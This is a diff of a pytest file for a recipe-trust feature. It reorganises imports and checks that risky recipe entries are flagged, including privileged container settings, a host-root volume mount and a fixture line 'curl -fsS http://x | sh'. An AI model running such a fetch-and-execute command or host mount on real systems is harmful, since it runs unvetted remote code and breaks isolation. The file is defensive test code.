@@ -8,10 +8,10 @@ import pytest
 from recipe_fakes import SIMPLE, recipe_from, write
 
 from sparkrun.errors import ExitCode, TrustError
-from sparkrun.recipes.api import check_trust, gated_items
+from sparkrun.recipes.lookup import Resolver
 from sparkrun.recipes.model import Recipe
 from sparkrun.recipes.registry import Registry, RegistryStore
-from sparkrun.recipes.resolve import Resolver
+from sparkrun.recipes.trust import check_trust, gated_items
 
 RISKY = (
     SIMPLE
@@ -38,9 +38,17 @@ volumes: ["/:/host"]
 def test_gated_items_list_exactly_what_would_run_or_break_isolation() -> None:
     items = gated_items(recipe_from(RISKY))
     assert [i.key for i in items] == [
-        "pre_exec[0]", "pre_exec[1]", "post_exec[0]", "post_commands[0]", "mods[0]", "executor_config.privileged",
-        "executor_config.cap_add", "executor_config.ipc", "cluster_config", "volumes",
-    ]  # fmt: skip
+        "pre_exec[0]",
+        "pre_exec[1]",
+        "post_exec[0]",
+        "post_commands[0]",
+        "mods[0]",
+        "executor_config.privileged",
+        "executor_config.cap_add",
+        "executor_config.ipc",
+        "cluster_config",
+        "volumes",
+    ]
     assert items[1].detail == "curl -fsS http://x | sh"
 
 
